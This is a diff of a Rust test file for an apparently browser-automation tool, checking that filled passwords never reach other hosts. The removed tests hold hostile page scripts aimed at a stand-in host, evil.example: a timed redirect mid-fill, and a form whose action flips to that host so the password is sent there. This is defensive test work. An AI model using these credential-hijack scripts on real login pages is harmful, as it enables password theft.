@@ -1,18 +1,17 @@
-//! Where secrets must not go: 24 ways to get them there, none of which works.
+//! Where secrets must not go: 24 ways to get them there, none of which works. W12, and what else happens in between, is in
+//! `races.rs`; W24 there and in `in_page.rs`. `docs/LEAKS.md` has the list.
 
-use std::time::Duration;
-
-use guise_core::{Action, FillRules, FillStyle, FillWay, Interaction, Site, SiteRules, Target};
+use guise_core::{Action, FillRules, FillWay, Interaction, Site, SiteRules, Target};
 use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
 use rstest::rstest;
 
 use super::world::{PASSWORD, World};
 use crate::stage::{by, by_id, element, fill};
 
-const HOST: &str = "login.bank.example";
-const FIELD: &str = r#"<form method="post" action="/sign-in/to/here"><input id="password" name="password" type="password"><button id="send">Send</button></form>"#;
+pub(super) const HOST: &str = "login.bank.example";
+pub(super) const FIELD: &str = r#"<form method="post" action="/sign-in/to/here"><input id="password" name="password" type="password"><button id="send">Send</button></form>"#;
 
-async fn world(way: FillWay) -> World {
+pub(super) async fn world(way: FillWay) -> World {
     with_rules(SiteRules {
         way,
         ..SiteRules::default()
@@ -29,7 +28,7 @@ async fn with_rules(rules: SiteRules) -> World {
 }
 
 /// The address of a page with that body.
-fn made(host: &str, body: &str) -> String {
+pub(super) fn made(host: &str, body: &str) -> String {
     let body = utf8_percent_encode(body, NON_ALPHANUMERIC);
     format!("https://{host}/sign-in/made?body={body}")
 }
@@ -498,58 +497,6 @@ async fn service_workers() {
     world.end().await;
 }
 
-#[rstest]
-#[tokio::test(flavor = "multi_thread")]
-async fn a_page_that_navigates_away_meanwhile(
-    #[values(FillWay::Wire, FillWay::Page)] way: FillWay,
-) {
-    // W12
-    let rounds = if std::env::var_os("GUISE_TEST_SOAK").is_some() {
-        1000
-    } else {
-        100
-    };
-    let world = world(way).await;
-    let evil = made("evil.example", FIELD);
-    let mut gone = 0;
-    for round in 0..rounds {
-        world.goto(&made(HOST, FIELD)).await;
-        // Between 0 and 60 ms later another page is there, with the same field; it sends what it gets.
-        let after = round * 7 % 60;
-        let leave = format!("setTimeout(() => {{ location.href = {evil:?} }}, {after}); 0");
-        world.stage.evaluate(&leave).await;
-        tokio::time::sleep(Duration::from_millis(round % 5)).await;
-        let mut target = by("#password");
-        target.timeout_ms = 2000;
-        let action = Action::Interact {
-            target,
-            interaction: Interaction::Fill {
-                value: PASSWORD.to_owned(),
-                clear_before_fill: true,
-                style: FillStyle::AtOnce,
-            },
-        };
-        let outcome = world.perform(action).await.outcome;
-        world.says_nothing(&outcome.message);
-        let send = "document.querySelector('form').submit(); location.host";
-        let host = world
-            .stage
-            .perform(Action::EvaluateJs {
-                code: send.to_owned(),
-            })
-            .await
-            .outcome;
-        gone += u32::from(host.data.is_some_and(|data| data.markdown.contains("evil")));
-    }
-    assert!(gone > 0, "the page never went in between");
-    for take in world.stage.site.takes() {
-        if take.host.contains("evil") {
-            world.says_nothing_in("evil.example", &take.body);
-        }
-    }
-    world.end().await;
-}
-
 #[tokio::test(flavor = "multi_thread")]
 async fn the_next_page_of_the_site() {
     let world = world(FillWay::Wire).await;
@@ -562,41 +509,6 @@ async fn the_next_page_of_the_site() {
     let send = "fetch('/sign-in/to/next', { method: 'POST', body: new URLSearchParams({ password: sessionStorage.kept }) }).then(() => 'sent')";
     assert_eq!(world.stage.evaluate(send).await, "sent");
     world.sent_to("next").await;
-    world.leaks_nothing();
-    world.end().await;
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn a_form_that_changes_its_mind() {
-    let world = world(FillWay::Page).await;
-    // It says now this and now that, and keeps what it said when something was filled in.
-    let script = "<script>
-        const form = document.querySelector('form');
-        const channel = new MessageChannel();
-        let turn = 0;
-        channel.port1.onmessage = () => {
-          turn += 1;
-          form.action = turn % 2 ? 'https://evil.example/sign-in/to/evil' : '/sign-in/to/here';
-          channel.port2.postMessage(0);
-        };
-        channel.port2.postMessage(0);
-        window.said = [];
-        form.addEventListener('input', () => said.push(form.action));
-      </script>";
-    let mut filled = 0;
-    for round in 0..40 {
-        let body = format!("{FIELD}{script}<p>{round}");
-        world.goto(&made(HOST, &body)).await;
-        let mut target = by("#password");
-        target.timeout_ms = 1000;
-        let outcome = world.perform(fill(target, PASSWORD)).await.outcome;
-        world.says_nothing(&outcome.message);
-        filled += u32::from(outcome.success);
-        let said = world.stage.evaluate("said.join()").await;
-        assert!(!said.contains("evil"), "{said}");
-        assert_eq!(said.is_empty(), !outcome.success, "{}", outcome.message);
-    }
-    assert!(filled < 40, "it never changed in between");
     world.leaks_nothing();
     world.end().await;
 }
